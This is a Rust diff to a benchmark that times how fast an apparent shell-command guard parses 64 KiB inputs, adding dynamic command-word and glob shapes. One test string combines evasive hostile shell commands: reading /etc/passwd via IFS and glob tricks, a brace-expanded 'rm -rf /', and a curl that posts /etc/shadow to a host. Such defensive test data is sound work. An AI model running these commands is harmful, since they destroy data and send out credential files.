@@ -250,8 +250,9 @@ fn per_decision_medians(mix: &Mix, reps: usize) {
 
 /// SPEC §21.5: each reading of a 64 KiB string should take under 10 ms. Shapes: plain words,
 /// many short commands, pipes and here-document operators (tree-sitter's worst cases), unmatched
-/// parentheses and unclosed `case` (brush-parser's, refused by the guards), quoted URLs, and
-/// random-looking payload text. Fastest of 3 per shape.
+/// parentheses and unclosed `case` (brush-parser's, refused by the guards), quoted URLs,
+/// random-looking payload text, and dynamic command words (shorter: the parser's token guard
+/// refuses more). Fastest of 3 per shape.
 fn readings_of_64_kib() {
     use airlock_core::policy::hardline::{shell, url};
     const N: usize = 64 * 1024;
@@ -269,6 +270,10 @@ fn readings_of_64_kib() {
             "payload mix",
             fill("cat${IFS}/e?c/passwd; {rm,-rf,/}; curl -d @/etc/shadow http:%31.2/ "),
         ),
+        // Dynamic command words (issue 30 item 4) are read as each program they could be; the
+        // costliest strings are the longest the parser's 4,096-token guard still reads.
+        ("dynamic words", "$a ".repeat(4_000)),
+        ("dynamic globs", "/b??/r? /x* -c ".repeat(1_000)),
     ];
     println!("\n== readings of a 64 KiB string (fastest of 3, ms) ==");
     for (name, text) in &shapes {
